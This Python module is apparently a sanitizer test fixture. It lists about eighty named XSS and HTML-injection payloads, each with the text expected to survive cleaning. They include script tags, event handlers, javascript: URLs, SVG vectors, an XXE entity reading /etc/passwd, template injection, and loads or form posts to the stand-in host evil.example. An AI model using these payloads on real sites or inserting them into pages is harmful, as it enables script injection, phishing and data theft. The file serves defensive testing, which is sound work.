"""Mark-up that tries to run a script, to load something or to take a page over, and what a reader may see of it."""

from __future__ import annotations

from typing import NamedTuple


class Payload(NamedTuple):
    """One attempt."""

    markup: str
    seen: tuple[str, ...] = ()
    """The paragraphs that are left of it in an article, where it stands between two others."""


PAYLOADS = {
    "script": Payload("<script>window.pwned=1</script>"),
    "script in capitals": Payload("<SCRIPT>window.pwned=1</SCRIPT>"),
    "script from elsewhere": Payload("<script src=//evil.example/x.js></script>"),
    "script of a module": Payload('<script type="module">import "//evil.example/x.js"</script>'),
    "script with a slash": Payload("<script/x>window.pwned=1</script>"),
    "script in a script": Payload("<scr<script>ipt>window.pwned=1</script>", ("ipt>window.pwned=1",)),
    "script that ends in a text": Payload("<script>'</script>外文'</script>", ("外文'",)),
    "script between comments": Payload("<!--><script>window.pwned=1</script>-->"),
    "script in a paragraph": Payload("<p>中<script>window.pwned=1</script>文</p>", ("中文",)),
    "script in a title": Payload("<title><script>window.pwned=1</script></title>"),
    "script in a template": Payload("<template><script>window.pwned=1</script></template>"),
    "script in noscript": Payload(
        '<noscript><p title="</noscript><script>window.pwned=1</script>"></noscript>'
    ),
    "script in a style": Payload("<style><script>window.pwned=1</script></style>"),
    "script in a text field": Payload("<textarea></textarea><script>window.pwned=1</script>"),
    "script in XML": Payload("<xml><script>window.pwned=1</script></xml>"),
    "script as escaped text": Payload(
        "&lt;script&gt;window.pwned=1&lt;/script&gt;", ("<script>window.pwned=1</script>",)
    ),
    "script escaped twice": Payload("&amp;lt;script&amp;gt;1", ("<script>1",)),
    "script in code": Payload("<pre>&lt;script&gt;1&lt;/script&gt;</pre>", ("<script>1</script>",)),
    "script with a NUL": Payload("<scr\0ipt>window.pwned=1</scr\0ipt>"),
    "script in UTF-7": Payload(
        "+ADw-script+AD4-alert(1)+ADw-/script+AD4-", ("+ADw-script+AD4-alert(1)+ADw-/script+AD4-",)
    ),
    "image with a handler": Payload("<img src=x onerror=window.pwned=1>"),
    "image with a handler after a slash": Payload("<img/src/onerror=window.pwned=1>"),
    "image with quotes": Payload('<img """><script>window.pwned=1</script>">'),
    "image of a script": Payload('<img src="javascript:window.pwned=1">'),
    "image from elsewhere": Payload('<img src="http://evil.example/pixel.gif" width=1 height=1>'),
    "image set": Payload(
        '<img srcset="//evil.example/a.png 2x"><picture><source srcset="//evil.example/b.png"></picture>'
    ),
    "paragraph with a handler": Payload(
        '<p onclick="window.pwned=1" onmouseover=window.pwned=1>段落。</p>', ("段落。",)
    ),
    "paragraph that takes focus": Payload(
        "<p tabindex=0 autofocus onfocus=window.pwned=1>段落。</p>", ("段落。",)
    ),
    "body with a handler": Payload("<body onload=window.pwned=1>"),
    "details that open": Payload(
        "<details open ontoggle=window.pwned=1><summary>概要</summary></details>", ("概要",)
    ),
    "marquee": Payload("<marquee onstart=window.pwned=1>字幕。</marquee>", ("字幕。",)),
    "text field with a handler": Payload("<input autofocus onfocus=window.pwned=1 value=x>"),
    "video": Payload("<video><source onerror=window.pwned=1></video>"),
    "audio": Payload("<audio src=//evil.example/a.mp3 onloadstart=window.pwned=1></audio>"),
    "animation": Payload(
        '<p style="animation-name:x" onanimationstart=window.pwned=1>动画。</p>', ("动画。",)
    ),
    "link that runs": Payload('<p><a href="javascript:window.pwned=1">链接</a>在此。</p>', ("链接在此。",)),
    "link with a tab": Payload(
        '<p><a href="java\tscript:window.pwned=1">链接</a>在此。</p>', ("链接在此。",)
    ),
    "link with entities": Payload(
        '<p><a href="&#106;avascript&colon;window.pwned=1">链接</a>在此。</p>', ("链接在此。",)
    ),
    "link to data": Payload(
        '<p><a href="data:text/html,<script>1</script>">链接</a>在此。</p>', ("链接在此。",)
    ),
    "link to VBScript": Payload('<p><a href="vbscript:msgbox(1)">链接</a>在此。</p>', ("链接在此。",)),
    "link to a file": Payload('<p><a href="file:///etc/passwd">链接</a>在此。</p>', ("链接在此。",)),
    "link with a ping": Payload(
        '<p><a href="https://e.org/" ping="//evil.example">链接</a>在此。</p>', ("链接在此。",)
    ),
    "SVG that runs": Payload("<svg onload=window.pwned=1><text>图</text></svg>"),
    "SVG with a script": Payload("<svg><script>window.pwned=1</script></svg>"),
    "SVG with a link": Payload('<svg><a xlink:href="javascript:window.pwned=1"><text>图</text></a></svg>'),
    "SVG animation": Payload("<svg><animate onbegin=window.pwned=1 attributeName=x></svg>"),
    "SVG with HTML": Payload("<svg><foreignObject><body onload=window.pwned=1></foreignObject></svg>"),
    "SVG in CDATA": Payload("<svg><![CDATA[><img src=x onerror=window.pwned=1>]]></svg>"),
    "MathML": Payload('<math href="javascript:window.pwned=1">式</math>', ("式",)),
    "frame": Payload("<iframe src=//evil.example></iframe>"),
    "frame with a page": Payload('<iframe srcdoc="<script>parent.pwned=1</script>"></iframe>'),
    "frame that runs": Payload("<iframe src=javascript:parent.pwned=1></iframe>"),
    "object": Payload("<object data=//evil.example/x.swf>物</object>"),
    "embedded": Payload("<embed src=javascript:window.pwned=1>"),
    "applet": Payload("<applet code=Evil.class>应用</applet>"),
    "base": Payload("<base href=//evil.example/>"),
    "meta refresh": Payload('<meta http-equiv="refresh" content="0;url=//evil.example">'),
    "meta policy": Payload('<meta http-equiv=Content-Security-Policy content="default-src *">'),
    "style sheet": Payload("<link rel=stylesheet href=//evil.example/x.css>"),
    "prefetch": Payload("<link rel=prefetch href=//evil.example/>"),
    "style": Payload("<style>body{display:none} @import '//evil.example/x.css';</style>"),
    "style that covers all": Payload(
        '<p style="position:fixed;inset:0;background:url(//evil.example)">遮挡。</p>', ("遮挡。",)
    ),
    "style of an expression": Payload('<p style="width:expression(window.pwned=1)">宽度。</p>', ("宽度。",)),
    "form": Payload("<form action=//evil.example><button>提交</button></form>"),
    "form with a password": Payload("<form><input type=password name=p></form>"),
    "button of another form": Payload("<button form=x formaction=javascript:window.pwned=1>按</button>"),
    "conditional comment": Payload("<!--[if IE]><script>window.pwned=1</script><![endif]-->"),
    "comment that stays open": Payload("<!-- <script>window.pwned=1</script>"),
    "processing instruction": Payload('<?xml-stylesheet href="javascript:window.pwned=1"?>'),
    "document type": Payload(
        '<!DOCTYPE html [<!ENTITY x SYSTEM "file:///etc/passwd">]><p>文档&x;。</p>', ("文档&x;。",)
    ),
    "end of the page": Payload("</p></div></body></html><p>余下。</p>", ("余下。",)),
    "end of a card": Payload("</li></ol></section><p>余下。</p>", ("余下。",)),
    "template of a framework": Payload(
        "<p>{{constructor.constructor('window.pwned=1')()}}</p>",
        ("{{constructor.constructor('window.pwned=1')()}}",),
    ),
    "template literal": Payload("<p>${window.pwned=1}`</p>", ("${window.pwned=1}`",)),
    "format field": Payload("<p>{0.__class__} %s %(x)s</p>", ("{0.__class__} %s %(x)s",)),
    "element of its own": Payload("<x-evil onclick=window.pwned=1>自定。</x-evil>", ("自定。",)),
    "slot": Payload("<slot name=x>槽位。</slot>", ("槽位。",)),
    "marked text": Payload("<p><mark class=cited>假的引用。</mark></p>", ("假的引用。",)),
    "attribute that is not closed": Payload(
        '<p title="<img src=x onerror=window.pwned=1>">属性。</p>', ("属性。",)
    ),
    "id that shadows": Payload("<p id=chat name=archive>遮名。</p>", ("遮名。",)),
    "right to left": Payload("<p>\u202e文倒\u202c。</p>", ("文倒。",)),
}
